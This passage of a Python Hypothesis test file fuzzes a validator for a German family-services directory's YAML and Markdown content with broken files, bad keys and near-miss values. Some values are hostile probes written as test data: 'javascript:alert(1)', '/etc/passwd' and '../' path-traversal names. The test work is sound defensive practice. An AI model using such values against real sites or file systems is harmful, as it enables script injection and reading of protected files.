                  ("feedback", "url"), ("eintraege_pro_seite",), ("barrierefreiheit_erklaerung",),
                  ("barrierefreiheit_erklaerung", "status"), ("gebaerdensprache_video",), ("repository",),
                  ("repository", "url")],
}
REQUIRED = {"angebote": ["titel", "kurz", "anbieter", "themen", "lebensphasen", "stadtteile", "stand"],
            "anbieter": ["name", "stand"], "seiten": ["titel"],
            "site.yaml": ["titel", "stadt", "basis_url", "herausgeber", "themen", "lebensphasen", "stadtteile",
                          "barrierefreiheit"]}
NEAR_MISSES = [
    "", " ", "2026-02-30", "2026-13-01", "1.10.2026", "2026-1-1", "20261001", "9999-99-99", "24:00", "9.30", "9:3",
    "25:61", "Mitte", "mitte ", "unbekannt", "ab", "x", "-x", "a-", "0", "x" * 81, "ganz-stadt", "ganz stadt", "ä", "-", "a" * 300, "fz-at-example.org",
    "ftp://example.org", "javascript:alert(1)", "https://", "www.example.org", "https://[x.example/", "https://x]/",
    "https://a\u2100b.example/", "mailto:x@example.org", "DE", "deu", "ls", "de", "vor ort", "mittwoch", "mo",
    "true", "ja", "no", "yes", "on", "null", "~", "-1", "28", "1e3", "0x10", ".inf", ".nan", "0800", "+49",
    "../geheim.png", "/etc/passwd", "bilder/krabbeln.png", "krabbeln.PNG", "krabbeln.png ", "C:\\x.png",
    "x/../../y.png", "krabbeln.png\\..", "https://github.com/a/b", "teilweise", "vollstaendig",
]
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.integers(min_value=-(2**80), max_value=2**80),
                    st.floats(), texts(0, 60), st.sampled_from(NEAR_MISSES),
                    st.sampled_from(TOPICS + PHASES + DISTRICTS + FEATURES + PROVIDERS))
junk = st.recursive(scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4),
    st.dictionaries(st.one_of(texts(0, 20), st.sampled_from(["von", "bis", "name", "datei", "alt", "id"]),
                              st.integers(-3, 3), st.none(), st.booleans()), inner, max_size=4)), max_leaves=8)
# YAML lines that break a file, or nearly do; tags, anchors, aliases and deep nesting are tested on their own.
BROKEN_LINES = [
    "\tkey: x", "key value", "- a", "[", "{", "]", "}", "'", '"', "key: [a, b", "key: {a: 1", ": x", "? x",
    "%YAML 1.2", "%TAG ! x", "---", "...", "@x", "`x", "key: 'a", 'key: "a\\q"', 'key: "\\u12"', "  indented: x",
    "x: y: z", "titel: doppelt", "stadtteile: [mitte", "- - - -", "key: |", "key: >-", "  - x", "=", "#", "titel:",
    "key: \"unclosed", "key: 'it''s'", "{a: 1}: b", "[a]: b", "1: eins", "null: x", "true: x", "~: x", ".inf: x",
    "key: @value", "key: `value`", "key: %value", "title: a # comment", "kurz: >\n  folded", "  ", "", "<<: {}",
    "- key: value", "key:\n- a\n - b", "\u00a0key: x", "key:\u3000x", "ключ: значение", "🎵: x",
]
file_names = st.one_of(
    st.sampled_from(["Babytreff-Lintorf.md", "krabbel gruppe.md", "ab.md", "x" * 81 + ".md", "krabbelgruppe.MD",
                     "krabbelgruppe", "krabbelgruppe.md.md", "krabbelgruppe.de.md", "krabbelgruppe.zz.md",
                     "krabbelgruppe.EN.md", "krabbelgruppe.en.md", "unbekannt.en.md", "größe.md", "émoji-🎵.md",
                     ".versteckt.md", "krabbelgruppe.ls.md", "a.b.c.md", "-.md", "---.md", "angebote.md", "suche.md",
                     "KRABBELGRUPPE.md", "krabbelgruppe.md~", "krabbelgruppe.txt", "Krabbelgruppe.md", "é.md",
                     "krabbelgruppe.en.en.md", "zeltlager.ar.md", "impressum.md", "x.yaml"]),
    st.text(UNICODE.filter(lambda c: c not in "/\\"), min_size=1, max_size=30).map(lambda s: s + ".md"),
)


@dataclass(frozen=True)
class Mutation:
    """One way to break a content folder; `breaks` says whether it surely gives an error in `file`."""

    def apply(self, root: Path) -> str | None:
        """Changes the folder; returns the path of a file that must now have an error, if any."""
        raise NotImplementedError


def _front_matter(path: Path):
    """(front matter, body) of a content file, or None when it cannot be read that way."""
    try:
        text = path.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError):
        return None
    if path.suffix == ".yaml":
        yaml_text, body = text, None
    else:
        lines = text.split("\n")
        ends = [i for i in range(1, len(lines)) if lines[i].rstrip() in ("---", "...")]
        if lines[0].rstrip() != "---" or not ends:
            return None
        yaml_text, body = "\n".join(lines[1:ends[0]]), "\n".join(lines[ends[0] + 1:])
    try:
        data = yaml.load(yaml_text, Loader=ContentLoader)
    except yaml.YAMLError:
        return None
    return (data, body) if isinstance(data, dict) else None


def _write_front_matter(path: Path, data: dict, body: str | None) -> None:
    text = dump(data, {})
    path.write_text(text if body is None else f"---\n{text}---\n{body}", encoding="utf-8")


def _kind(relative: str) -> str:
    return relative if relative == "site.yaml" else relative.split("/")[0]


def _allowed_keys(relative: str) -> set[str]:
    """The keys the file's JSON Schema knows."""
    kind = _kind(relative)
    if kind == "angebote" and Path(relative).name.count(".") > 1:
        name = schemas.TRANSLATION
    else:
        name = {"angebote": schemas.OFFER, "anbieter": schemas.PROVIDER, "seiten": schemas.PAGE,
                "site.yaml": schemas.SITE}.get(kind)
    return set(schemas.load_schema(name)["properties"]) if name else set()


@dataclass(frozen=True)
class SetValue(Mutation):
    file: str
    key_path: tuple
    value: object

    def apply(self, root):
        parsed = _front_matter(root / self.file)
        if parsed is None:
            return None
        data, body = parsed
        node = data
        for step, following in zip(self.key_path, self.key_path[1:]):
            empty = [] if isinstance(following, int) else {}
            if isinstance(node, dict):
                node = node.setdefault(step, empty)
            elif isinstance(node, list) and isinstance(step, int):
                while len(node) <= step:
                    node.append(empty)
                node = node[step]
            if not isinstance(node, (dict, list)):
                return None
        last = self.key_path[-1]
        if isinstance(node, list):
            if not isinstance(last, int):
                return None
            while len(node) <= last:
                node.append(None)
        node[last] = self.value
        _write_front_matter(root / self.file, data, body)
        # A list or a map where a required text is: surely an error.
        surely = (len(self.key_path) == 1 and last in ("titel", "kurz", "name", "stand")
                  and isinstance(self.value, (list, dict)))
        return self.file if surely else None


@dataclass(frozen=True)
class DeleteKey(Mutation):
    file: str
    key: str

    def apply(self, root):
        parsed = _front_matter(root / self.file)
        if parsed is None or self.key not in parsed[0]:
            return None
        del parsed[0][self.key]
        _write_front_matter(root / self.file, *parsed)
        return self.file if self.key in REQUIRED[_kind(self.file)] else None


@dataclass(frozen=True)
class AddKey(Mutation):
    file: str
    key: object
    value: object

    def apply(self, root):
        parsed = _front_matter(root / self.file)
        if parsed is None or self.key in parsed[0]:
            return None
        parsed[0][self.key] = self.value
        _write_front_matter(root / self.file, *parsed)
        return None if self.key in _allowed_keys(self.file) else self.file  # an unknown key is an error


@dataclass(frozen=True)
class InsertLine(Mutation):
    file: str
    position: int
    line: str

    def apply(self, root):
        path = root / self.file
        if not path.is_file():
            return None
        lines = path.read_bytes().split(b"\n")
        lines.insert(self.position % (len(lines) + 1), self.line.encode("utf-8"))
        path.write_bytes(b"\n".join(lines))
        return None


@dataclass(frozen=True)
class Truncate(Mutation):
    file: str
    fraction: float

    def apply(self, root):
        path = root / self.file
        if path.is_file():
            raw = path.read_bytes()
            path.write_bytes(raw[:int(len(raw) * self.fraction)])
        return None


@dataclass(frozen=True)
class Overwrite(Mutation):
    file: str
    content: bytes

    def apply(self, root):
        path = root / self.file
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir():
            return None
        path.write_bytes(self.content)
        return None


@dataclass(frozen=True)
class LineEndings(Mutation):
    file: str
    ending: str

    def apply(self, root):
        path = root / self.file
        if path.is_file():
            path.write_bytes(path.read_bytes().replace(b"\n", self.ending.encode()))
        return None


@dataclass(frozen=True)
class Reencode(Mutation):
    """The file saved by an editor in another encoding than UTF-8."""

    file: str
    encoding: str

    def apply(self, root):
        path = root / self.file
        try:
            text = path.read_text(encoding="utf-8")
            path.write_bytes(text.encode(self.encoding, errors="replace"))
        except (OSError, UnicodeDecodeError):
            pass
        return None


@dataclass(frozen=True)
class Remove(Mutation):
    file: str

    def apply(self, root):
        path = root / self.file
        if path.is_dir():
            shutil.rmtree(path)
        elif path.exists():
            path.unlink()
        return None


@dataclass(frozen=True)
class Rename(Mutation):
    file: str
    new_name: str

    def apply(self, root):
        path = root / self.file
        if not path.is_file():
            return None
        target = path.with_name(self.new_name)
        try:
            if target.exists():
                return None
            path.rename(target)
        except OSError:  # a name the file system refuses (too long in bytes)
            return None
        return None


@dataclass(frozen=True)
class ReplaceBody(Mutation):
    file: str
    body: str

    def apply(self, root):
        parsed = _front_matter(root / self.file)
        if parsed is None or parsed[1] is None:
            return None
        _write_front_matter(root / self.file, parsed[0], self.body)
        return None


def _without_controls(raw: bytes) -> bool:
    """Bytes that are not UTF-8 at all, or UTF-8 text without control characters (those are tested apart)."""
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", text)


file_contents = st.one_of(
    st.sampled_from([b"", b"\xef\xbb\xbf", b"---\n", b"---\n---\n", b"---\n...\n", b"---\n---", b"---\r\n---\r\n",
                     b"\xef\xbb\xbf---\ntitel: x\n---\n", b"---\n- a\n- b\n---\n", b"---\nnur text\n---\n",
                     b"---\n42\n---\n", b"---\n{}\n---\n", b"---\nnull\n---\n", b"---\ntitel: \xe4rger\n---\n",
                     "---\ntitel: Ärger\n---\n".encode("utf-16"), "---\ntitel: Ärger\n---\n".encode("latin-1"),
                     b"\x89PNG\r\n\x1a\n", b"titel: ohne Vorspann\n", b"---\ntitel: a\n---\n" * 3]),
    st.binary(max_size=200).filter(_without_controls),
    st.builds(lambda data, body: markdown_file(data, body, {}).encode(),
              st.dictionaries(st.one_of(st.sampled_from(sum(REQUIRED.values(), [])), texts(0, 15)), junk,
                              max_size=6),
              valid_body()),
)
STRAY_PATHS = ["angebote/unterordner/x.md", "angebote/notiz.txt", "angebote/bild.png", "angebote/neu.md",
               "angebote/neu.en.md", "anbieter/neu.md", "seiten/neu.md", "seiten/suche.md", "seiten/impressum.md",
               "angebote/.DS_Store", "site.yaml", "angebote/x.md/y.md", "bilder/neu.jpg", "bilder/unter/neu.png"]


def mutations() -> st.SearchStrategy[Mutation]:
    md = st.sampled_from(MARKDOWN_FILES)
    any_file = st.sampled_from(FIXTURE_FILES)
    structured = st.sampled_from(["site.yaml", *MARKDOWN_FILES])

    @st.composite
    def set_value(draw):
        file = draw(structured)
        return SetValue(file, draw(st.sampled_from(KEY_PATHS[_kind(file)] if not file.count(".") > 1
                                                   else [("titel",), ("kurz",), ("kosten",), ("orte",),
                                                         ("orte", 0, "hinweis")])), draw(junk))

    @st.composite
    def delete_key(draw):
        file = draw(structured)
        return DeleteKey(file, draw(st.sampled_from(REQUIRED[_kind(file)] + ["orte", "kontakt", "bild", "hilfe"])))

    return st.one_of(
        set_value(), delete_key(),
        st.builds(AddKey, structured, st.one_of(texts(1, 20).filter(lambda k: k.strip()),
                                                st.sampled_from(["stadteile", "Titel", "titel ", "kurzbeschreibung",
                                                                 "sprache", "ort", "bild_alt"])), junk),
        st.builds(InsertLine, any_file, st.integers(0, 60), st.one_of(st.sampled_from(BROKEN_LINES),
                                                                     texts(0, 40, newlines=False))),
        st.builds(Truncate, any_file, st.floats(0, 1)),
        st.builds(Overwrite, st.one_of(any_file, st.sampled_from(STRAY_PATHS)), file_contents),
        st.builds(LineEndings, any_file, st.sampled_from(["\r\n", "\r", "\n\n"])),
        st.builds(Reencode, any_file, st.sampled_from(["latin-1", "cp1252", "utf-16", "utf-8-sig"])),
        st.builds(Remove, st.sampled_from(FIXTURE_FILES + ["angebote", "anbieter", "seiten", "bilder"])),
        st.builds(Rename, md, file_names),
        st.builds(ReplaceBody, md, hostile_markdown()),
    )
